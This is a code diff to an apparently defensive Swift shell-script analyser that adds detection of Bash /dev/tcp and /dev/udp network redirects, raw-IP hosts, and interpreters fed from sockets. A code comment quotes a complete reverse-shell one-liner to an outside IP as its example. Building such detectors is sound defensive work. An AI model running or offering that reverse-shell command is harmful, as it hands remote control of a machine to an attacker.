@@ -11,7 +11,15 @@ extension ShellRun {
         var hidden = command.background
         let words = ShellRun.stripWrappers(Array(original[firstCommand...]), hidden: &hidden)
         for word in original + command.redirects.map(\.target) { scanWord(word, depth: depth, anchor: anchor) }
-        guard let head = words.first else { return false }
+        var fromSocket = false
+        for (op, target) in command.redirects where ShellRun.isSocketPath(target.text) {
+            // Bash's `/dev/tcp/HOST/PORT`: a connection, not a file (`bash -i >& /dev/tcp/45.9.1.2/443 0>&1`).
+            emit(.useNetwork, at: target, anchor: anchor)
+            let host = target.text.split(separator: "/").dropFirst(2).first.map(String.init) ?? ""
+            if URLSignals.isRemoteIPv4(host) { emit(.urlRawIP, at: target, anchor: anchor) }
+            if op.contains("<") || op == ">&" || op == "&>" { fromSocket = true }
+        }
+        guard let head = words.first else { return fromSocket }
         let lowerLine = original.map(\.text).joined(separator: " ").lowercased()
         if StringSignals.isShellCommand(lowerLine) { emit(.shellCommand, at: head, anchor: anchor) }
         if hidden { emit(.hiddenProcess, at: original.first ?? head, anchor: anchor) }
@@ -20,9 +28,13 @@ extension ShellRun {
         let downloads = rules(
             name: name, head: head, arguments: arguments, command: command, depth: depth,
             anchor: anchor, pipedFromDownload: pipedFromDownload)
+        if fromSocket, ShellRun.inlineLanguage(name) != nil {
+            // An interpreter whose input comes from a socket runs what the network sends it.
+            emit(.downloadExecute, at: head, anchor: anchor)
+        }
         for (op, target) in command.redirects
         where op.contains(">") && !target.text.hasPrefix("&")
-            && !target.text.hasPrefix("/dev/null")
+            && !target.text.hasPrefix("/dev/null") && !ShellRun.isSocketPath(target.text)
         {
             emit(.writeFile, at: target, anchor: anchor)
             let path = ShellRun.normalise(target.text)
@@ -40,7 +52,7 @@ extension ShellRun {
                 for kind in StringSignals.kinds(in: body.text) { emit(kind, at: body, anchor: anchor) }
             }
         }
-        return downloads
+        return downloads || fromSocket
     }
 
     /// String signals, variables and substitutions of one word.
@@ -52,6 +64,11 @@ extension ShellRun {
             emit(.readEnvironmentVariable, at: word, anchor: anchor)
         }
         for body in word.substitutions { analyse(body, depth: depth + 1, anchor: anchor ?? word) }
+    }
+
+    /// Bash's network pseudo-files, `/dev/tcp/HOST/PORT` and `/dev/udp/HOST/PORT`.
+    static func isSocketPath(_ path: String) -> Bool {
+        path.hasPrefix("/dev/tcp/") || path.hasPrefix("/dev/udp/")
     }
 
     /// The command name: lowercased basename without `.exe`.
